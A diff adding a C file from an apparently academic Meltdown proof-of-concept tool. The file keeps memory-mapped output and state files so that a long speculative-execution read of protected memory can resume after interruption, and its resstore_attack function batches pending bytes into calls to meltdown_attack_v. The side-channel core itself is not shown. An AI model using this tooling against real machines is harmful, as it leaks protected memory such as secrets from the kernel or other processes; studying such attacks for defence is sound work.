@@ -0,0 +1,225 @@
+/*-
+ * Copyright (c) 2018 The University of Oslo
+ * Copyright (c) 2018 Dag-Erling Smørgrav
+ * All rights reserved.
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions
+ * are met:
+ * 1. Redistributions of source code must retain the above copyright
+ *    notice, this list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright
+ *    notice, this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. The name of the author may not be used to endorse or promote
+ *    products derived from this software without specific prior written
+ *    permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE AUTHOR AND CONTRIBUTORS ``AS IS'' AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE
+ * IMPLIED WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE
+ * ARE DISCLAIMED.  IN NO EVENT SHALL THE AUTHOR OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS
+ * OR SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION)
+ * HOWEVER CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT
+ * LIABILITY, OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY
+ * OUT OF THE USE OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF
+ * SUCH DAMAGE.
+ */
+
+#include <sys/types.h>
+#include <sys/mman.h>
+#include <sys/stat.h>
+
+#include <err.h>
+#include <fcntl.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "meltdown.h"
+
+/*
+ * The result store consists of two files: the output file, which holds
+ * the data read so far, and a sidecar with the same name plus ".state",
+ * which holds a header identifying the target followed by one record per
+ * byte.  Both are shared memory mappings updated in place, so they
+ * survive the process being killed.  An interrupted read loses at most
+ * the batch of RESSTORE_BATCH bytes that was in progress, and a rerun
+ * with the same target picks up where it left off.
+ */
+#define RESSTORE_MAGIC		"MDSTORE"
+#define RESSTORE_VERSION	1
+#define RESSTORE_SUFFIX		".state"
+#define RESSTORE_BATCH		4096
+
+struct resstore_hdr {
+	char		 magic[8];	/* RESSTORE_MAGIC */
+	uint32_t	 version;	/* RESSTORE_VERSION */
+	uint32_t	 reclen;	/* size of a record */
+	uint64_t	 key;		/* identifies the target */
+	uint64_t	 len;		/* length of the target */
+};
+
+struct resstore_rec {
+	uint32_t	 rounds;	/* rounds performed */
+	float		 conf;		/* confidence, as in meltdown_byte */
+	uint8_t		 state;		/* see below */
+	uint8_t		 alt;		/* runner-up value */
+	uint8_t		 pad[2];
+};
+#define RESSTORE_PENDING	0
+#define RESSTORE_DONE		1
+
+struct resstore {
+	size_t		 len;		/* length of the target */
+	uint8_t		*data;		/* mapped output file */
+	struct resstore_hdr *hdr;	/* mapped sidecar */
+	struct resstore_rec *rec;	/* per-byte records */
+	size_t		 size;		/* size of the sidecar */
+};
+
+/*
+ * Open or create a file of the given size and map it.  Returns a pointer
+ * to the mapping and sets *created if the file was empty.
+ */
+static void *
+resstore_map(const char *path, size_t size, int *created)
+{
+	struct stat st;
+	void *p;
+	int fd;
+
+	if ((fd = open(path, O_RDWR | O_CREAT, 0644)) < 0 ||
+	    fstat(fd, &st) != 0)
+		err(1, "%s", path);
+	*created = st.st_size == 0;
+	if (*created && ftruncate(fd, size) != 0)
+		err(1, "%s", path);
+	else if (!*created && (uintmax_t)st.st_size != size)
+		errx(1, "%s: size does not match target", path);
+	p = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+	if (p == MAP_FAILED)
+		err(1, "%s: mmap()", path);
+	close(fd);
+	return (p);
+}
+
+/*
+ * Open the result store for a target of the given length, creating it
+ * if it does not already exist.  The key is stored in the sidecar and
+ * must match on subsequent runs.
+ */
+struct resstore *
+resstore_open(const char *path, uint64_t key, size_t len)
+{
+	struct resstore *rs;
+	char *spath;
+	size_t size;
+	int created, screated;
+
+	if ((rs = calloc(1, sizeof *rs)) == NULL)
+		err(1, "calloc()");
+	rs->len = len;
+	rs->size = sizeof *rs->hdr + len * sizeof *rs->rec;
+	size = strlen(path) + sizeof RESSTORE_SUFFIX;
+	if ((spath = malloc(size)) == NULL)
+		err(1, "malloc()");
+	snprintf(spath, size, "%s" RESSTORE_SUFFIX, path);
+	rs->data = resstore_map(path, len, &created);
+	rs->hdr = resstore_map(spath, rs->size, &screated);
+	rs->rec = (struct resstore_rec *)(rs->hdr + 1);
+	if (created && !screated)
+		errx(1, "%s: output file is missing", path);
+	if (screated) {
+		memcpy(rs->hdr->magic, RESSTORE_MAGIC, sizeof rs->hdr->magic);
+		rs->hdr->version = RESSTORE_VERSION;
+		rs->hdr->reclen = sizeof *rs->rec;
+		rs->hdr->key = key;
+		rs->hdr->len = len;
+	} else if (memcmp(rs->hdr->magic, RESSTORE_MAGIC,
+	    sizeof rs->hdr->magic) != 0 ||
+	    rs->hdr->version != RESSTORE_VERSION ||
+	    rs->hdr->reclen != sizeof *rs->rec) {
+		errx(1, "%s: not a result store", spath);
+	} else if (rs->hdr->key != key || rs->hdr->len != len) {
+		errx(1, "%s: target does not match", spath);
+	}
+	free(spath);
+	return (rs);
+}
+
+/*
+ * Read every byte that is still pending, in batches, recording the
+ * outcome as each batch completes.
+ */
+void
+resstore_attack(struct resstore *rs, const void *targetp,
+    unsigned int rounds)
+{
+	struct meltdown_byte *mb;
+	struct meltdown_iov *iov;
+	const uint8_t *target = targetp;
+	size_t done, i, j, n;
+	unsigned int iovcnt;
+
+	for (done = i = 0; i < rs->len; ++i)
+		if (rs->rec[i].state == RESSTORE_DONE)
+			done++;
+	if (done > 0)
+		VERBOSEF("resuming with %zu of %zu bytes done\n", done,
+		    rs->len);
+	if ((mb = calloc(RESSTORE_BATCH, sizeof *mb)) == NULL ||
+	    (iov = calloc(RESSTORE_BATCH, sizeof *iov)) == NULL)
+		err(1, "calloc()");
+	for (i = 0; i < rs->len; i += n) {
+		n = rs->len - i < RESSTORE_BATCH ? rs->len - i : RESSTORE_BATCH;
+		/* one segment per run of pending bytes */
+		memset(mb, 0, n * sizeof *mb);
+		for (iovcnt = 0, j = 0; j < n; ++j) {
+			if (rs->rec[i + j].state == RESSTORE_DONE)
+				continue;
+			if (iovcnt > 0 && (uint8_t *)iov[iovcnt - 1].buf +
+			    iov[iovcnt - 1].len == rs->data + i + j) {
+				iov[iovcnt - 1].len++;
+				continue;
+			}
+			iov[iovcnt].target = target + i + j;
+			iov[iovcnt].buf = rs->data + i + j;
+			iov[iovcnt].hist = mb + j;
+			iov[iovcnt].len = 1;
+			iovcnt++;
+		}
+		if (iovcnt == 0)
+			continue;
+		meltdown_attack_v(iov, iovcnt, rounds);
+		for (j = 0; j < n; ++j) {
+			if (mb[j].rounds == 0)
+				continue;
+			rs->rec[i + j].rounds = mb[j].rounds;
+			rs->rec[i + j].conf = mb[j].conf;
+			rs->rec[i + j].alt = mb[j].value[1];
+			rs->rec[i + j].state = RESSTORE_DONE;
+		}
+	}
+	free(iov);
+	free(mb);
+}
+
+/*
+ * Flush and close the result store.
+ */
+void
+resstore_close(struct resstore *rs)
+{
+
+	if (msync(rs->data, rs->len, MS_SYNC) != 0 ||
+	    msync(rs->hdr, rs->size, MS_SYNC) != 0)
+		warn("msync()");
+	munmap(rs->data, rs->len);
+	munmap(rs->hdr, rs->size);
+	free(rs);
+}